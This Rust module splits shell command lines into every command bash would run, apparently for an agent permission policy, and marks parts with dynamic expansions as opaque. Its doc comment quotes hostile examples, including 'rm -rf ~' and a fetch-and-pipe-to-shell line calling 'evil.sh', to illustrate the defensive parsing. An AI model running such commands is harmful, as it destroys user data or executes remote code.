//! Shell commands, parsed with a real shell parser into every command bash would run.
//!
//! `git status && rm -rf ~` is two commands; `echo $(curl evil.sh | sh)` runs `curl evil.sh` and
//! `sh` too. A policy allows a command line only if it allows every part. Each [`Part`] carries
//! its words decoded the way bash decodes them (quotes, escapes, `$'…'`), its prefix assignments
//! (`PATH=/tmp/evil git status` is not `git status`) and its redirections; a redirection that
//! writes a file is its own `> PATH` part.
//!
//! The principle: a part whose every word is statically known can be allowed by a rule. Anything
//! the normaliser cannot account for (a variable's value, a command's output, arithmetic, a glob,
//! a builtin that evaluates its arguments) makes the part **opaque**: an allow rule never covers it
//! (a person decides at most), while ask and deny rules still match it by every name it could
//! have (as written, by basename, without assignments, and the command a wrapper runs at each
//! place it could start).

use brush_parser::ast::{
    self, Assignment, AssignmentName, AssignmentValue, Command, CommandPrefixOrSuffixItem,
    CompoundCommand, CompoundList, IoFileRedirectKind, IoFileRedirectTarget, IoRedirect, Pipeline,
};
use brush_parser::word::{self, WordPiece, WordPieceWithSource};
use brush_parser::{ParserOptions, parse_tokens, tokenize_str_with_options};
use serde::{Deserialize, Serialize};

mod commands;
mod words;

use commands::{BUILTINS, unwrap};
use words::{
    ansi_c, basename, compound_name, hidden_substitutions, numeric, plain_parameter, subscripted,
    unquoted_expansion,
};

/// Nesting deeper than this is refused rather than followed (a hostile input cannot exhaust the
/// stack).
const MAX_DEPTH: usize = 16;

/// A command line that could not be parsed; the policy never allows such a line without asking.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("cannot parse the shell command: {0}")]
pub struct ShellError(pub String);

/// One command (or file write) a command line runs.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Part {
    /// What an allow rule must match: the assignments, then the words, decoded and joined by single
    /// spaces; `> PATH` for a write redirection.
    pub text: String,
    /// Prefix assignments (`NAME=value`), also at the start of `text`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub assignments: Vec<String>,
    /// Redirections on this command (`> out`, `< in`, `2>&1`), as written after decoding.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub redirects: Vec<String>,
    /// More names only ask and deny rules match: the command by basename, without its
    /// assignments, and every place a wrapped command could start.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub also: Vec<String>,
    /// Why this part's effect cannot be known statically; an allow rule never covers it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub opaque: Option<String>,
}

impl Part {
    fn plain(text: String) -> Part {
        Part {
            text,
            assignments: Vec::new(),
            redirects: Vec::new(),
            also: Vec::new(),
            opaque: None,
        }
    }

    fn opaque(text: String, why: impl Into<String>) -> Part {
        Part {
            opaque: Some(why.into()),
            ..Part::plain(text)
        }
    }
}

/// Every part a command line runs, in the order bash meets them; identical parts once.
pub fn parse(command: &str) -> Result<Vec<Part>, ShellError> {
    let mut w = Walker::default();
    w.source(command, 0)?;
    if w.parts.is_empty() {
        return Err(ShellError("the command is empty".into()));
    }
    let mut seen = std::collections::HashSet::new();
    w.parts.retain(|p| seen.insert(p.clone()));
    Ok(w.parts)
}

/// What the policy matches for a command line: its parts, or the whole line as one opaque target
/// when it cannot be parsed.
pub fn targets(command: &str) -> Vec<crate::eval::Target> {
    match parse(command) {
        Ok(parts) => parts.into_iter().map(Into::into).collect(),
        Err(e) => vec![crate::eval::Target::opaque(command.trim(), e.to_string())],
    }
}

/// The parts' texts (what allow rules match), for callers that need only those.
pub fn parts(command: &str) -> Result<Vec<String>, ShellError> {
    Ok(parse(command)?.into_iter().map(|p| p.text).collect())
}

fn options() -> ParserOptions {
    ParserOptions {
        tilde_expansion_at_word_start: false,
        ..ParserOptions::default()
    }
}

/// Where a word stands decides which expansions make it unknowable.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    /// A command's name or argument, an assignment's value, a redirection target: any expansion
    /// makes its value unknown.
    Command,
    /// Data only (a case pattern, a heredoc, a here-string, a `for` list): plain `$x` is only a
    /// value, but forms that evaluate code (`${x@P}`, `${!x}`, subscripts, arithmetic) are not.
    Data,
}

/// A word after decoding: its value, and why it is not statically known (if it is not).
struct Decoded {
    value: String,
    opaque: Option<String>,
}

/// A simple command while its items are read.
#[derive(Default)]
struct Simple {
    assignments: Vec<String>,
    words: Vec<String>,
    redirects: Vec<String>,
    opaque: Option<String>,
    /// Parts for the files its redirections write.
    writes: Vec<Part>,
}

impl Simple {
    /// Keeps the first reason the command is opaque.
    fn note(&mut self, why: Option<String>) {
        if self.opaque.is_none() {
            self.opaque = why;
        }
    }
}

#[derive(Default)]
struct Walker {
    parts: Vec<Part>,
}

impl Walker {
    /// Parses and walks `source`; a parse error is returned.
    fn source(&mut self, source: &str, depth: usize) -> Result<(), ShellError> {
        if depth > MAX_DEPTH {
            return Err(ShellError("nested too deeply".into()));
        }
        let opts = options();
        let tokens = tokenize_str_with_options(source, &opts.tokenizer_options())
            .map_err(|e| ShellError(e.to_string()))?;
        let program = parse_tokens(&tokens, &opts).map_err(|e| ShellError(e.to_string()))?;
        for list in &program.complete_commands {
            self.list(list, depth)?;
        }
        Ok(())
    }

    /// Walks code bash runs from inside a word (`$(…)`, `eval '…'`): one that cannot be parsed
    /// becomes an opaque part instead of failing the whole line.
    fn nested(&mut self, source: &str, depth: usize) -> Result<(), ShellError> {
        if depth > MAX_DEPTH {
            return Err(ShellError("nested too deeply".into()));
        }
        let before = self.parts.len();
        if let Err(e) = self.source(source, depth) {
            self.parts.truncate(before);
            self.parts.push(Part::opaque(
                source.trim().to_owned(),
                format!("code that cannot be parsed: {}", e.0),
            ));
        }
        Ok(())
    }

    fn list(&mut self, list: &CompoundList, depth: usize) -> Result<(), ShellError> {
        for item in &list.0 {
            let and_or = &item.0;
            self.pipeline(&and_or.first, depth)?;
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p, depth)?,
                }
            }
        }
        Ok(())
    }

    fn pipeline(&mut self, pipeline: &Pipeline, depth: usize) -> Result<(), ShellError> {
        for command in &pipeline.seq {
            self.command(command, depth)?;
        }
        Ok(())
    }

    fn command(&mut self, command: &Command, depth: usize) -> Result<(), ShellError> {
        let depth = depth + 1;
        if depth > MAX_DEPTH {
            return Err(ShellError("nested too deeply".into()));
        }
        match command {
            Command::Simple(simple) => self.simple(simple, depth),
            Command::Compound(compound, redirects) => {
                self.compound(compound, depth)?;
                let mut on = Vec::new();
                let mut opaque = None;
                for r in redirects.iter().flat_map(|l| l.0.iter()) {
                    self.redirect(r, &mut on, &mut opaque, depth)?;
                }
                if let Some(why) = opaque {
                    self.parts
                        .push(Part::opaque(compound_name(compound).to_owned(), why));
                }
                Ok(())
            }
            // The body runs when the function is called, and by then under a name the line
            // chose: report it now.
            Command::Function(def) => self.compound(&def.body.0, depth),
            Command::ExtendedTest(test, _) => {
                let text = test.expr.to_string();
                let d = self.word(&text, Place::Data, depth)?;
                let arithmetic = ["-eq", "-ne", "-lt", "-le", "-gt", "-ge", "-v"]
                    .iter()
                    .any(|op| text.split_whitespace().any(|w| w == *op));
                let why = d.opaque.or_else(|| {
                    arithmetic.then(|| "`[[ … ]]` evaluates arithmetic or names".to_owned())
                });
                if let Some(why) = why {
                    self.parts.push(Part::opaque(format!("[[ {text} ]]"), why));
                }
                Ok(())
            }
        }
    }

    fn simple(&mut self, simple: &ast::SimpleCommand, depth: usize) -> Result<(), ShellError> {
        let mut acc = Simple::default();
        for item in simple.prefix.iter().flat_map(|p| p.0.iter()) {
            self.item(item, true, &mut acc, depth)?;
        }
        if let Some(name) = &simple.word_or_name {
            let d = self.word(&name.value, Place::Command, depth)?;
            acc.note(d.opaque);
            acc.words.push(d.value);
        }
        for item in simple.suffix.iter().flat_map(|s| s.0.iter()) {
            self.item(item, false, &mut acc, depth)?;
        }
        let Simple {
            assignments,
            words,
            redirects,
            mut opaque,
            writes,
        } = acc;
        let words: Vec<String> = words.into_iter().filter(|w| !w.is_empty()).collect();
        if words.is_empty() && assignments.is_empty() {
            self.parts.extend(writes);
            return Ok(());
        }
        if opaque.is_none() {
            opaque = self.evaluated_arguments(&words, depth)?;
        }
        let mut text: Vec<&str> = assignments.iter().map(String::as_str).collect();
        text.extend(words.iter().map(String::as_str));
        let mut part = Part {
            text: text.join(" "),
            assignments: assignments.clone(),
            redirects,
            also: Vec::new(),
            opaque,
        };
        let mut inner = Vec::new();
        unwrap(&words, &assignments, &mut part, &mut inner);
        self.parts.push(part);
        self.parts.extend(inner);
        self.parts.extend(writes);
        Ok(())
    }

    /// One prefix or suffix item of a simple command.
    fn item(
        &mut self,
        item: &CommandPrefixOrSuffixItem,
        prefix: bool,
        acc: &mut Simple,
        depth: usize,
    ) -> Result<(), ShellError> {
        match item {
            CommandPrefixOrSuffixItem::AssignmentWord(a, _) if prefix => {
                let (text, why) = self.assignment(a, depth)?;
                acc.note(why);
                acc.assignments.push(text);
            }
            // After the name, `X=1` is an argument (declaration builtins read it themselves).
            CommandPrefixOrSuffixItem::Word(w)
            | CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
                let d = self.word(&w.value, Place::Command, depth)?;
                acc.note(d.opaque);
                acc.words.push(d.value);
            }
            CommandPrefixOrSuffixItem::IoRedirect(r) => {
                let before = self.parts.len();
                self.redirect(r, &mut acc.redirects, &mut acc.opaque, depth)?;
                acc.writes.extend(self.parts.drain(before..));
            }
            CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                self.list(&sub.list, depth)?;
                acc.note(Some("a process substitution's path".into()));
                acc.words.push("<(…)".into());
            }
        }
        Ok(())
    }

    /// Builtins and shells that run their arguments as code: the code is walked; arguments that
    /// a builtin may evaluate (names with subscripts, `$` in a name) make the part opaque.
    fn evaluated_arguments(
        &mut self,
        words: &[String],
        depth: usize,
    ) -> Result<Option<String>, ShellError> {
        let Some((first, args)) = words.split_first() else {
            return Ok(None);
        };
        let name = basename(first);
        match name {
            "eval" => {
                self.nested(&args.join(" "), depth + 1)?;
                Ok(None)
            }
            "trap" => {
                if let Some(code) = args.iter().find(|a| !a.starts_with('-')) {
                    self.nested(code, depth + 1)?;
                }
                Ok(None)
            }
            "bash" | "sh" | "dash" | "zsh" | "ksh" => {
                let code = args
                    .iter()
                    .position(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
                    .and_then(|i| args.get(i + 1));
                if let Some(code) = code {
                    self.nested(code, depth + 1)?;
                }
                Ok(None)
            }
            "source" | "." => Ok(Some(format!(
                "`{name}` runs the commands in a file the policy cannot read"
            ))),
            "alias" | "enable" | "hash" | "unalias" => Ok(Some(format!(
                "`{name}` changes what later command names run"
            ))),
            "let" => Ok(Some("`let` evaluates arithmetic".into())),
            "mapfile" | "readarray" | "compgen" | "complete" | "bind"
                if args.iter().any(|a| {
                    a.starts_with('-') && !a.starts_with("--") && a.contains(['C', 'F', 'x'])
                }) =>
            {
                Ok(Some(format!(
                    "`{name}` runs a callback given as an argument"
                )))
            }
            _ if BUILTINS.contains(&name) => Ok(args
                .iter()
                .find(|a| a.contains('$') || a.contains('`') || subscripted(a))
                .map(|a| format!("`{name}` may evaluate `{a}` as code or arithmetic"))),
            _ => Ok(None),
        }
    }

    fn assignment(
        &mut self,
        a: &Assignment,
        depth: usize,
    ) -> Result<(String, Option<String>), ShellError> {
        let mut opaque = None;
        let name = match &a.name {
            AssignmentName::VariableName(n) => n.clone(),
            AssignmentName::ArrayElementName(n, index) => {
                let d = self.word(index, Place::Data, depth)?;
                if !index.chars().all(|c| c.is_ascii_digit()) {
                    opaque = Some(
                        d.opaque
                            .unwrap_or_else(|| "an array subscript is evaluated".to_owned()),
                    );
                }
                format!("{n}[{index}]")
            }
        };
        let value = match &a.value {
            AssignmentValue::Scalar(w) => {
                let d = self.word(&w.value, Place::Command, depth)?;
                opaque = opaque.or(d.opaque);
                d.value
            }
            AssignmentValue::Array(items) => {
                let mut values = Vec::new();
                for (key, w) in items {
                    if let Some(k) = key {
                        self.word(&k.value, Place::Data, depth)?;
                        opaque = opaque.or(Some("an array subscript is evaluated".to_owned()));
                    }
                    let d = self.word(&w.value, Place::Command, depth)?;
                    opaque = opaque.or(d.opaque);
                    values.push(d.value);
                }
                format!("({})", values.join(" "))
            }
        };
        let op = if a.append { "+=" } else { "=" };
        Ok((format!("{name}{op}{value}"), opaque))
    }

    fn compound(&mut self, compound: &CompoundCommand, depth: usize) -> Result<(), ShellError> {
        match compound {
            CompoundCommand::BraceGroup(g) => self.list(&g.list, depth),
            CompoundCommand::Subshell(s) => self.list(&s.list, depth),
            CompoundCommand::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    let d = self.word(&w.value, Place::Data, depth)?;
                    if let Some(why) = d.opaque {
                        self.parts.push(Part::opaque(
                            format!("for {} in {}", f.variable_name, w.value),
                            why,
                        ));
                    }
                }
                self.list(&f.body.list, depth)
            }
            CompoundCommand::CaseClause(c) => {
                let mut words = vec![&c.value];
                words.extend(c.cases.iter().flat_map(|case| case.patterns.iter()));
                for w in words {
                    let d = self.word(&w.value, Place::Data, depth)?;
                    if let Some(why) = d.opaque {
                        self.parts
                            .push(Part::opaque(format!("case {}", c.value.value), why));
                    }
                }
                for case in &c.cases {
                    if let Some(cmd) = &case.cmd {
                        self.list(cmd, depth)?;
                    }
                }
                Ok(())
            }
            CompoundCommand::IfClause(i) => {
                self.list(&i.condition, depth)?;
                self.list(&i.then, depth)?;
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c, depth)?;
                    }
                    self.list(&e.body, depth)?;
                }
                Ok(())
            }
            CompoundCommand::WhileClause(w) | CompoundCommand::UntilClause(w) => {
                self.list(&w.0, depth)?;
                self.list(&w.1.list, depth)
            }
            CompoundCommand::Coprocess(c) => self.command(&c.body, depth),
            CompoundCommand::Arithmetic(a) => {
                self.arithmetic(&a.expr.value, depth)?;
                Ok(())
            }
            CompoundCommand::ArithmeticForClause(f) => {
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.arithmetic(&e.value, depth)?;
                }
                self.list(&f.body.list, depth)
            }
        }
    }

    /// `(( … ))`: numbers and operators are harmless; a name is evaluated recursively (its value
    /// can hold `a[$(cmd)]`), so anything else is opaque.
    fn arithmetic(&mut self, expr: &str, depth: usize) -> Result<(), ShellError> {
        for code in hidden_substitutions(expr) {
            self.nested(&code, depth + 1)?;
        }
        if !numeric(expr) {
            self.parts.push(Part::opaque(
                format!("(( {} ))", expr.trim()),
                "arithmetic evaluates names and subscripts",
            ));
        }
        Ok(())
    }

    fn redirect(
        &mut self,
        r: &IoRedirect,
        on: &mut Vec<String>,
        opaque: &mut Option<String>,
        depth: usize,
    ) -> Result<(), ShellError> {
        let mut note = |why: Option<String>| {
            if opaque.is_none() {
                *opaque = why;
            }
        };
        match r {
            IoRedirect::File(fd, kind, target) => {
                let fd = fd.map(|f| f.to_string()).unwrap_or_default();
                match target {
                    IoFileRedirectTarget::Filename(w) | IoFileRedirectTarget::Duplicate(w) => {
                        let d = self.word(&w.value, Place::Command, depth)?;
                        note(d.opaque.clone());
                        let is_fd = d.value == "-"
                            || (!d.value.is_empty()
                                && d.value
                                    .trim_end_matches('-')
                                    .chars()
                                    .all(|c| c.is_ascii_digit()));
                        let duplicate = matches!(
                            kind,
                            IoFileRedirectKind::DuplicateOutput
                                | IoFileRedirectKind::DuplicateInput
                        );
                        // `>&word` with a word that is not a descriptor writes the file (as `&>`).
                        let writes = match kind {
                            IoFileRedirectKind::Write
                            | IoFileRedirectKind::Append
                            | IoFileRedirectKind::Clobber
                            | IoFileRedirectKind::ReadAndWrite => true,
                            IoFileRedirectKind::DuplicateOutput => !is_fd,
                            IoFileRedirectKind::Read | IoFileRedirectKind::DuplicateInput => false,
                        };
                        on.push(format!("{fd}{kind}{}", d.value));
                        if duplicate && !is_fd && matches!(kind, IoFileRedirectKind::DuplicateInput)
                        {
                            note(Some("`<&` with a word that is not a descriptor".into()));
                        }
                        if writes && d.value != "/dev/null" {
                            let mut p = Part::plain(format!("> {}", d.value));
                            p.opaque = d.opaque.clone();
                            self.parts.push(p);
                        }
                    }
                    IoFileRedirectTarget::Fd(n) => on.push(format!("{fd}{kind}{n}")),
                    IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                        self.list(&sub.list, depth)?;
                        on.push(format!("{fd}{kind}(…)"));
                    }
                }
            }
            IoRedirect::OutputAndError(w, append) => {
                let d = self.word(&w.value, Place::Command, depth)?;
                note(d.opaque.clone());
                on.push(format!("{}{}", if *append { "&>>" } else { "&>" }, d.value));
                if d.value != "/dev/null" {
                    let mut p = Part::plain(format!("> {}", d.value));
                    p.opaque = d.opaque;
                    self.parts.push(p);
                }
            }
            IoRedirect::HereString(_, w) => {
                let d = self.word(&w.value, Place::Data, depth)?;
                note(d.opaque);
                on.push("<<<…".into());
            }
            IoRedirect::HereDocument(_, doc) => {
                if doc.requires_expansion {
                    let d = self.heredoc(&doc.doc.value, depth)?;
                    note(d);
                }
                on.push("<<…".into());
            }
        }
        Ok(())
    }

    /// A heredoc body expands like the inside of double quotes.
    fn heredoc(&mut self, body: &str, depth: usize) -> Result<Option<String>, ShellError> {
        if !body.contains('$') && !body.contains('`') {
            return Ok(None);
        }
        let quoted = format!("\"{}\"", body.replace('"', "\\\""));
        Ok(self.word(&quoted, Place::Data, depth)?.opaque)
    }

    /// Decodes one word as bash would, walking the commands its substitutions run.
    fn word(&mut self, text: &str, place: Place, depth: usize) -> Result<Decoded, ShellError> {
        let pieces = match word::parse(text, &options()) {
            Ok(p) => p,
            Err(e) => {
                for code in hidden_substitutions(text) {
                    self.nested(&code, depth + 1)?;
                }
                return Ok(Decoded {
                    value: text.to_owned(),
                    opaque: Some(format!("a word that cannot be parsed: {e}")),
                });
            }
        };
        let mut d = Decoded {
            value: String::new(),
            opaque: None,
        };
        self.pieces(text, &pieces, place, false, &mut d, depth)?;
        Ok(d)
    }

    fn pieces(
        &mut self,
        text: &str,
        pieces: &[WordPieceWithSource],
        place: Place,
        quoted: bool,
        d: &mut Decoded,
        depth: usize,
    ) -> Result<(), ShellError> {
        let note = |d: &mut Decoded, why: String| {
            if d.opaque.is_none() {
                d.opaque = Some(why);
            }
        };
        for piece in pieces {
            let source = text.get(piece.start_index..piece.end_index).unwrap_or("");
            match &piece.piece {
                WordPiece::Text(s) => {
                    if let Some(why) = unquoted_expansion(s).filter(|why| {
                        !quoted && (place == Place::Command || why.contains("arithmetic"))
                    }) {
                        note(d, why);
                    }
                    for code in hidden_substitutions(s) {
                        self.nested(&code, depth + 1)?;
                    }
                    d.value.push_str(s);
                }
                WordPiece::SingleQuotedText(s) => d.value.push_str(s),
                WordPiece::AnsiCQuotedText(s) => d.value.push_str(&ansi_c(s)),
                WordPiece::DoubleQuotedSequence(seq)
                | WordPiece::GettextDoubleQuotedSequence(seq) => {
                    self.pieces(text, seq, place, true, d, depth + 1)?;
                }
                WordPiece::TildeExpansion(_) => d.value.push_str(source),
                WordPiece::EscapeSequence(s) => {
                    let mut chars = s.chars();
                    match (chars.next(), chars.next()) {
                        (Some('\\'), Some('\n')) => {}
                        (Some('\\'), Some(c)) if !quoted || "$`\"\\".contains(c) => d.value.push(c),
                        _ => d.value.push_str(s),
                    }
                }
                WordPiece::ParameterExpansion(expr) => {
                    for code in hidden_substitutions(source) {
                        self.nested(&code, depth + 1)?;
                    }
                    let evaluates = !plain_parameter(expr);
                    if evaluates {
                        note(
                            d,
                            format!(
                                "`{source}` may evaluate code (indirection, @P, a subscript or an operator)"
                            ),
                        );
                    } else if place == Place::Command {
                        note(d, format!("the value of `{source}` is not known"));
                    }
                    d.value.push_str(source);
                }
                WordPiece::CommandSubstitution(inner)
                | WordPiece::BackquotedCommandSubstitution(inner) => {
                    self.nested(inner, depth + 1)?;
                    if place == Place::Command {
                        note(d, format!("the output of `{}` is not known", inner.trim()));
                    }
                    d.value.push_str(source);
                }
                WordPiece::ArithmeticExpression(expr) => {
                    for code in hidden_substitutions(&expr.value) {
                        self.nested(&code, depth + 1)?;
                    }
                    if !numeric(&expr.value) || place == Place::Command {
                        note(
                            d,
                            format!("arithmetic `{source}` evaluates names and subscripts"),
                        );
                    }
                    d.value.push_str(source);
                }
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests;
